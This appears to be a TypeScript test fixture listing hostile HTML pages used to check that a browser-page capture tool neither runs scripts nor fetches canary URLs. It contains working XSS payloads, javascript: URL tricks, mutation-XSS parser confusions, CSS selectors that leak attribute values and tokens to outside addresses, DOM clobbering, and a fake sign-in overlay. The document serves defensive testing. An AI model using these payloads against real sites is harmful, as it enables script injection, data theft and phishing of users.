/** Small pages that a visitor may have open, each after something in the agent's browser. They are captured as any page is. */
import { CLOBBERED_FORM, clobberedBy, DOCUMENT_NAMES } from "./names.ts";
import { RUN } from "./run.ts";

export interface HostilePage {
  /** What it tries, in few words. */
  name: string;
  group: string;
  /** The body, or the whole page where it begins with `<html`. */
  html: string;
}

/** The pages; `url` makes addresses that must never be asked for. */
export function hostilePages(url: (path: string) => string): HostilePage[] {
  const pages = (group: string, all: Record<string, string>): HostilePage[] =>
    Object.entries(all).map(([name, html]) => ({ name, group, html }));
  const sheet = (css: string) => `<style>${css}</style><p class="x" id="x">words</p>`;
  return [
    ...pages("script", {
      "inline script": `<script>${RUN}</script>`,
      "script from elsewhere": `<script src="${url("p-script")}"></script>`,
      "module with an import map": `<script type="importmap">{"imports":{"x":"${url("p-map")}"}}</script><script type="module">import "x"</script>`,
      "noscript that would load": `<noscript><img src="${url("p-noscript")}"></noscript>`,
      "script written by a script": `<div id="w"></div><script>w.innerHTML="<img src=x onerror=\\"${RUN}\\">"</script>`,
      "svg script": `<svg><script>${RUN}</script><script href="${url("p-svgscript")}"/></svg>`,
      "script in a shadow root": `<div id="h"></div><script>h.attachShadow({mode:"open"}).innerHTML="<img src=x onerror=\\"${RUN}\\"><style>@import '${url("p-shadow")}'</style>"</script>`,
      "script in a template": `<template shadowrootmode="open"><script>${RUN}</script><img src="x" onerror="${RUN}"></template>`,
      "speculation rules": `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url("p-spec")}"]}]}</script>`,
      "worker and blob scripts": `<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('${url("p-worker")}')"])))}catch{}</script>`,
    }),
    ...pages("handler", {
      "image handlers": `<img src="x" onerror="${RUN}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}">`,
      "handlers in all cases": `<img src=x OnErRoR="${RUN}"><p ONCLICK="${RUN}" onmouseover="${RUN}">x</p>`,
      "autofocus with a handler": `<input autofocus onfocus="${RUN}"><button autofocus onblur="${RUN}">x</button>`,
      "animation handlers": `<style>@keyframes k{to{top:1px}}</style><p style="animation:k 1ms" onanimationend="${RUN}" onanimationstart="${RUN}">x</p>`,
      "details and dialog handlers": `<details open ontoggle="${RUN}"><summary>x</summary>y</details><dialog open onclose="${RUN}">x</dialog>`,
      "svg and smil handlers": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x" dur="1s"/><set attributeName="onclick" to="${RUN}"/></svg>`,
      "media handlers": `<video src="x" onerror="${RUN}"><source src="y" onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>`,
      "body handlers": `<html><body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}" onresize="${RUN}">x</body></html>`,
      "popover and command handlers": `<button popovertarget="po" command="show-popover" commandfor="po">x</button><div id="po" popover onbeforetoggle="${RUN}" ontoggle="${RUN}">y</div>`,
    }),
    ...pages("url", {
      "javascript: in links": `<a href="javascript:${RUN}">a</a><a href=" &#1;java&#10;script:${RUN}">b</a><map><area href="JaVaScRiPt:${RUN}"></map>`,
      "javascript: in svg": `<svg><a href="javascript:${RUN}"><text>a</text></a><a xlink:href="javascript:${RUN}"><animate attributeName="href" values="javascript:${RUN}"/></a></svg>`,
      "javascript: in forms": `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button><input type="image" formaction="javascript:${RUN}" src="x"></form>`,
      "javascript: in frames and objects": `<iframe src="javascript:${RUN}"></iframe><object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
      "javascript: in mathml": `<math href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">x</mi></math>`,
      "data: and vbscript: links": `<a href="data:text/html,<script>${RUN}</script>">a</a><a href="vbscript:x" ping="${url("p-ping")}">b</a>`,
      "javascript: in css": `<p style="background:url('javascript:${RUN}');-moz-binding:url(javascript:${RUN});behavior:url(${url("p-htc")})">x</p>`,
    }),
    ...pages("navigation", {
      "meta refresh": `<html><head><meta http-equiv="refresh" content="1;url=${url("p-refresh")}"></head><body>x</body></html>`,
      "base and targets": `<html><head><base href="${url("p-base/")}" target="_top"></head><body><a href="x" target="_top">a</a><img src="relative.png"></body></html>`,
      "forms that submit": `<form action="${url("p-form")}" target="_top"><input name="a" autofocus><button>go</button></form>`,
      "frames that break out": `<iframe srcdoc="<a id=a href='${url("p-top")}' target=_top>x</a>"></iframe>`,
    }),
    ...pages("frame", {
      "frame with a document": `<iframe srcdoc="<script>${RUN}</script><img src=${url("p-srcdoc")} onerror=&quot;${RUN}&quot;>"></iframe>`,
      "frame that widens its sandbox": `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" allow="camera" srcdoc="<script>${RUN}</script>"></iframe>`,
      "frame in a frame in a frame": `<iframe srcdoc="<iframe srcdoc='<iframe srcdoc=&quot;<script>${RUN.replaceAll("'", "&amp;apos;")}</script>&quot;></iframe>'></iframe>"></iframe>`,
      "object, embed and applet": `<object data="${url("p-object")}" type="text/html"></object><embed src="${url("p-embed")}"><object data="data:text/html,<script>${RUN}</script>"></object>`,
      "old frames": `<html><frameset cols="50%,50%"><frame src="${url("p-frame")}"><frame src="${url("p-frame2")}"></frameset></html>`,
    }),
    ...pages("hint", {
      "links that load early": `<html><head>${["preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest", "import", "alternate stylesheet", "apple-touch-icon"].map((rel) => `<link rel="${rel}" as="image" href="${url(`p-${rel.replaceAll(" ", "")}`)}" imagesrcset="${url("p-imagesrcset")} 1x">`).join("")}</head><body>x</body></html>`,
    }),
    ...pages("css leak", {
      "imports in all spellings": sheet(
        `@import "${url("p-i1")}";@import url(${url("p-i2")});@\\69mport '${url("p-i3")}';@IMPORT/**/url("${url("p-i4")}") layer(a) supports(display:grid) screen;`,
      ),
      "attribute values read by selectors": sheet(
        `input[value^="s"]{background:url(${url("p-attr-s")})}a[href*="token"]{background:url(${url("p-attr-t")})}`,
      ),
      "visited links": sheet(`a:visited{background:url(${url("p-visited")})}`),
      "escapes and comments": sheet(
        `.x{background:\\75\\72\\6c(${url("p-esc1")});cursor:u\\rl(${url("p-esc2")})}.x::before{content:/**/url(/**/${url("p-com1")})}.x::after{content:url("${url("p-com2").replace("http", "h\\74tp")}")}`,
      ),
      "image functions": sheet(
        `.x{background-image:image-set("${url("p-set1")}" 1x,url(${url("p-set2")}) 2x);border-image:-webkit-image-set(url(${url("p-set3")}) 1x) 1;mask-image:cross-fade(url(${url("p-fade1")}),url(${url("p-fade2")}),50%);list-style-image:-webkit-cross-fade(url(${url("p-fade3")}),url(${url("p-fade4")}),50%);background:src("${url("p-src")}"),image("${url("p-image")}")}`,
      ),
      "variables joined at use": sheet(
        `.x{--q:"${url("p-var1")}";--u:url(${url("p-var2")});--f:image-set(var(--q) 1x);background:var(--u),image-set(var(--q) 1x),var(--f)}@property --p{syntax:"<url>";inherits:false;initial-value:url(${url("p-var3")})}.x::before{content:var(--p)}`,
      ),
      "every property that takes a picture": sheet(
        `.x{${["background-image", "border-image-source", "list-style-image", "mask-image", "-webkit-mask-image", "-webkit-mask-box-image-source", "-webkit-border-image", "cursor", "filter", "backdrop-filter", "clip-path", "shape-outside", "offset-path", "content", "marker-start", "fill", "stroke"].map((property) => `${property}:url(${url(`p-prop-${property}`)})`).join(";")}}`,
      ),
      "fonts in all spellings": sheet(
        `@font-face{font-family:f;src:url(${url("p-font1")})format("woff2"),url("${url("p-font2")}")tech(color-colrv1);unicode-range:U+0-7F}@font-face{font-family:g;src:u\\72l(${url("p-font3")})}.x{font-family:f,g}`,
      ),
      "rules that scripts insert": `<style id="s"></style><p class="x">x</p><script>s.sheet.insertRule(".x{background:url(${url("p-rule1")})}");s.sheet.insertRule("@import url(${url("p-rule2")})");const c=new CSSStyleSheet();c.replaceSync(".x{cursor:url(${url("p-rule3")}),auto}");document.adoptedStyleSheets=[c]</script>`,
      "strings that never end": sheet(
        `.y{content:"\n}.x{background:url(${url("p-str1")})}.z{--a:'\\\n';background:url('${url("p-str2")}`,
      ),
      "counter styles, namespaces and documents": sheet(
        `@namespace s url(${url("p-ns")});@counter-style c{system:cyclic;symbols:url(${url("p-sym")}) "x"}@document url(${url("p-doc")}){.x{color:red}}.x{list-style:c;display:list-item}`,
      ),
      "closing its style element": `<style>/*</style><style>*/.x{background:url(${url("p-close")})}</style><p class="x">x</p>`,
    }),
    ...pages("picture leak", {
      "pictures in all attributes": `<img src="${url("p-src1")}" srcset="${url("p-ss1")} 1x,${url("p-ss2")} 2x" longdesc="${url("p-long")}" lowsrc="${url("p-low")}"><picture><source srcset="${url("p-ps")}"><img></picture><input type="image" src="${url("p-input")}"><body background="${url("p-bg")}"><table background="${url("p-tbg")}"><td background="${url("p-td")}">x</table><video poster="${url("p-poster")}"></video>`,
      "svg that refers elsewhere": `<svg><use href="${url("p-use")}#a"/><image href="${url("p-img")}"/><image xlink:href="${url("p-xl")}"/><filter id="f"><feImage href="${url("p-fe")}"/></filter><rect width="9" height="9" filter="url(${url("p-filter")}#f)" mask="url(${url("p-mask")}#m)" clip-path="url('${url("p-clip")}#c')" style="fill:url(${url("p-fill")}#p)"/><textPath href="${url("p-tp")}#t">x</textPath><mpath href="${url("p-mp")}"/><linearGradient href="${url("p-lg")}"/></svg>`,
      "svg in a data: picture": `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${url("p-data")}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url("p-data2")}"/></foreignObject></svg>`)}">`,
      "films and tracks": `<video src="${url("p-film")}" autoplay preload="auto"><source src="${url("p-film2")}"><track src="${url("p-track")}" default></video><audio src="${url("p-audio")}" autoplay></audio>`,
      "attributes nobody uses any more": `<body><table background="${url("p-o1")}"></table><img dynsrc="${url("p-o2")}"><bgsound src="${url("p-o3")}"><isindex action="${url("p-o4")}"><xml src="${url("p-o5")}"></xml><a attributionsrc="${url("p-o6")}" href="x">x</a><img attributionsrc="${url("p-o7")}" src="x">`,
    }),
    ...pages("mutation", {
      "math and style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
      "svg and p": `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
      "noscript and title": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><title><a title="</title><img src=x onerror=${RUN}>">`,
      "textarea, xmp and plaintext": `<textarea></textarea><img src=x onerror=${RUN}></textarea><xmp></xmp><img src=x onerror="${RUN}"></xmp><plaintext><img src=x onerror="${RUN}">`,
      "foreign content turned inside out": `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
      "attributes that look like markup": `<p title="</p><script>${RUN}</script>" data-x='"><img src=x onerror=${RUN}>' class="--><script>${RUN}</script>">x</p>`,
      "names that look like markup": `<script>const e=document.createElement("x-y");e.setAttribute("a","'><script>${RUN}<\\/script>");document.body.append(e)</script>`,
    }),
    ...pages("names", {
      "fields that hide their form's properties": CLOBBERED_FORM,
      "elements that hide the document's properties": clobberedBy(DOCUMENT_NAMES),
    }),
    ...pages("deception", {
      "covers everything, in the top layer": `<div id="t" popover style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session has ended. <a href="${url("p-fake")}">Sign in again</a></div><dialog id="d">x</dialog><script>t.showPopover();d.showModal()</script>`,
      "looks like our own parts": `<div class="layer overlay pointer notice chooser" data-userview-overlay style="position:fixed;inset:0">Ada</div><main class="stage"><div class="sheet"><div class="mirror"></div></div></main>`,
      "cursor that lies": `<html><body style="cursor:none"><p style="cursor:url(${url("p-cursor")}) 99 99,auto">x</p></body></html>`,
      "leaves its frame": `<p style="position:fixed;top:-5000px;left:-5000px;width:20000px;height:20000px;margin:-9999px;transform:scale(99)">x</p>`,
    }),
  ];
}
